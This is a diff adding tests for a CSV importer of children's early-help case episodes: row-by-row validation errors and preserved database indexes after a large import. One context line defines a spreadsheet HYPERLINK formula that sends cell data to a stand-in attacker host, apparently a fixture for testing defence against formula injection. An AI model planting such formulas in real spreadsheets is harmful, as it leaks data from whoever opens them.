@@ -392,6 +392,127 @@ def test_a_refused_write_leaves_nothing_half_written(known, tmp_path):
     assert known["imports"].count == 0
 
 
+FULL = ["EHM number", "Start date", "End date", "Lead agency", "Lead agency kind",
+        "Lead professional", "Lead professional id", "Team manager", "Team manager id",
+        "Began as", "Ended as", "Cross authority", "First review date", "Last review date",
+        "Child name", "Child date of birth"]
+
+
+def test_every_episode_rule_rejects_its_rows_exactly_in_row_and_field_order(known, tmp_path):
+    """Each rule's code, field, value and message, row by row, and several in one row."""
+    def row(ehm, start, **cells):
+        out = dict.fromkeys(FULL, "")
+        out.update({"EHM number": ehm, "Start date": start, "Lead agency": COUNCIL})
+        out.update({k.replace("_", " "): v for k, v in cells.items()})
+        return [out[h] for h in FULL]
+
+    rows = [FULL,
+            row("E1", "01/02/2026", Child_name="Ann A", Child_date_of_birth="01/01/2020"),  # 2 ok
+            row("E2", "", Lead_agency=""),  # 3: two blanks
+            row("E3", "2026-02-30", End_date="31/01/26"),  # 4: impossible, 2-digit year
+            row("E4", "next week", First_review_date="46000.5x"),  # 5: unreadable dates
+            row("E5", "01/03/2026", End_date="01/02/2026", First_review_date="01/02/2026",
+                Last_review_date="15/02/2026"),  # 6: end and both reviews before start
+            row("E6", "01/03/2026", First_review_date="01/05/2026",
+                Last_review_date="01/04/2026"),  # 7: reviews in the wrong order
+            row("E7", "01/03/2026", Child_name="Bo B", Child_date_of_birth="01/01/2027"),  # 8
+            row("E8", "01/03/2026", Child_name="Cy C", Child_date_of_birth="02/03/2026"),  # 9
+            row("E9", "01/03/2026", Lead_professional_id="11.5", Team_manager_id="x"),  # 10
+            row("E10", "01/03/2026", Lead_professional_id="99", Team_manager="Nobody"),  # 11
+            row("E11", "01/03/2026", Lead_professional="Cai Cobbleworth"),  # 12: other agency
+            row("E12", "01/03/2026", Began_as="Sideways", Ended_as="Vanished",
+                Cross_authority="perhaps"),  # 13: three unknown words, ended without end
+            row("E13", "01/03/2026", Ended_as="Step up"),  # 14: ended without an end date
+            row("E14", "01/03/2026", Child_date_of_birth="01/01/2020"),  # 15: no child name
+            row("E15", "01/03/2026", Lead_agency="Nowhere Trust"),  # 16
+            row("E1", "01/02/2026", Child_name="Ann A", Child_date_of_birth="01/01/2020"),  # 17
+            row("E1", "01/02/2026", Team_manager="Bea Bramblewick", Child_name="Al A"),  # 18
+            row("E16", "1-Feb-2026", Lead_professional="Ada Applebridge",
+                Team_manager="Bea Bramblewick", Began_as="Step down", End_date="30/06/2026",
+                Ended_as="Outcomes met", Cross_authority="Yes", First_review_date="46054",
+                Last_review_date="2026-04-01", Child_name="Di D",
+                Child_date_of_birth="3 March 2019")]  # 19 ok
+    s = cases.import_episodes(known, write_csv(tmp_path / "all.csv", rows),
+                              rejects_dir=tmp_path, today=TODAY)
+    assert counts(s) == (18, 2, 0, 0, 16)
+    began = "began 01/03/2026"
+    assert [(p.row, p.code, p.field, p.value, p.message) for p in s.problems] == [
+        (3, "MISSING_VALUE", "lead_agency", "", "a required value is blank"),
+        (3, "MISSING_VALUE", "start_date", "", "a required value is blank"),
+        (4, "BAD_DATE", "end_date", "31/01/26", cases.RULES["BAD_DATE"]
+         + ": write the year in full (2026, not 26)"),
+        (4, "IMPOSSIBLE_DATE", "start_date", "2026-02-30", cases.RULES["IMPOSSIBLE_DATE"]
+         + ": dates are read as day/month/year"),
+        (5, "BAD_DATE", "first_review_date", "46000.5x", cases.RULES["BAD_DATE"]),
+        (5, "BAD_DATE", "start_date", "next week", cases.RULES["BAD_DATE"]),
+        (6, "END_BEFORE_START", "end_date", "01/02/2026",
+         cases.RULES["END_BEFORE_START"] + ": " + began),
+        (6, "REVIEW_BEFORE_START", "first_review_date", "01/02/2026",
+         cases.RULES["REVIEW_BEFORE_START"] + ": " + began),
+        (6, "REVIEW_BEFORE_START", "last_review_date", "15/02/2026",
+         cases.RULES["REVIEW_BEFORE_START"] + ": " + began),
+        (7, "REVIEW_ORDER", "last_review_date", "01/04/2026", cases.RULES["REVIEW_ORDER"]),
+        (8, "DOB_IN_FUTURE", "child_date_of_birth", "01/01/2027", cases.RULES["DOB_IN_FUTURE"]),
+        (9, "DOB_AFTER_START", "child_date_of_birth", "02/03/2026",
+         cases.RULES["DOB_AFTER_START"] + ": " + began),
+        (10, "BAD_NUMBER", "lead_professional_id", "11.5", cases.RULES["BAD_NUMBER"]),
+        (10, "BAD_NUMBER", "team_manager_id", "x", cases.RULES["BAD_NUMBER"]),
+        (11, "UNKNOWN_PRACTITIONER", "lead_professional_id", "99",
+         cases.RULES["UNKNOWN_PRACTITIONER"] + ": no practitioner with id 99"),
+        (11, "UNKNOWN_PRACTITIONER", "team_manager", "Nobody",
+         cases.RULES["UNKNOWN_PRACTITIONER"]),
+        (12, "UNKNOWN_PRACTITIONER", "lead_professional", "Cai Cobbleworth",
+         cases.RULES["UNKNOWN_PRACTITIONER"]),
+        (13, "UNKNOWN_VALUE", "began_as", "Sideways", cases.RULES["UNKNOWN_VALUE"]
+         + ": add it to the mapping file; allowed: " + ", ".join(
+             cases.setting("episodes", "began_as"))),
+        (13, "UNKNOWN_VALUE", "cross_authority", "perhaps",
+         cases.RULES["UNKNOWN_VALUE"] + ": expected yes or no"),
+        (13, "UNKNOWN_VALUE", "ended_as", "Vanished", cases.RULES["UNKNOWN_VALUE"]
+         + ": add it to the mapping file; allowed: " + ", ".join(
+             cases.setting("episodes", "ended_as"))),
+        (13, "ENDED_WITHOUT_END_DATE", "ended_as", "Vanished",
+         cases.RULES["ENDED_WITHOUT_END_DATE"]),
+        (14, "ENDED_WITHOUT_END_DATE", "ended_as", "Step up",
+         cases.RULES["ENDED_WITHOUT_END_DATE"]),
+        (15, "MISSING_VALUE", "child_name", "",
+         cases.RULES["MISSING_VALUE"] + ": a date of birth without a name"),
+        (16, "UNKNOWN_AGENCY", "lead_agency", "Nowhere Trust", cases.RULES["UNKNOWN_AGENCY"]),
+        (17, "DUPLICATE_ROW", "", "", cases.RULES["DUPLICATE_ROW"] + ": same as row 2"),
+        (18, "DUPLICATE_DIFFERS", "team_manager", "Bea Bramblewick",
+         cases.RULES["DUPLICATE_DIFFERS"] + ": row 2 has ''; differs in team_manager"),
+    ]
+    e = episodes_in(known)["E16"]
+    assert (e["start_date"], e["end_date"], e["status"], e["ended_as"], e["began_as"]) == (
+        "2026-02-01", "2026-06-30", "closed", "outcomes_achieved", "step_down")
+    assert (e["first_review_date"], e["last_review_date"], e["cross_authority"]) == (
+        "2026-02-01", "2026-04-01", 1)
+    assert (e["lead_professional_id"], e["team_manager_id"]) == (11, 10)
+
+
+def test_an_import_that_doubles_the_store_keeps_every_index_as_it_was(known, tmp_path):
+    """A big import builds the episodes' and children's indexes once at the end: afterwards
+    the store has the same indexes, whole, and they find the new rows."""
+    def indexes():
+        return sorted(known.conn.execute(
+            "SELECT name, sql FROM sqlite_master WHERE type = 'index' AND "
+            "tbl_name IN ('episodes', 'children')").fetchall())
+
+    before = indexes()
+    rows = [HEADER] + [[f"EHM{n}", "01/02/2026", "", COUNCIL, "", "", "", "", f"Kit K{n}",
+                        "01/01/2020"] for n in range(1200)]
+    s = cases.import_episodes(known, write_csv(tmp_path / "big.csv", rows),
+                              rejects_dir=tmp_path, today=TODAY)
+    assert counts(s) == (1200, 1200, 0, 0, 0)
+    assert indexes() == before
+    assert known.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
+    plan = " ".join(r[-1] for r in known.conn.execute(
+        "EXPLAIN QUERY PLAN SELECT count(*) FROM episodes WHERE start_date >= '2026-01-01'"))
+    assert "episodes_by_start" in plan
+    assert known.conn.execute("SELECT count(*) FROM episodes WHERE start_date >= '2026-01-01'"
+                              ).fetchone()[0] == 1200
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
 
 
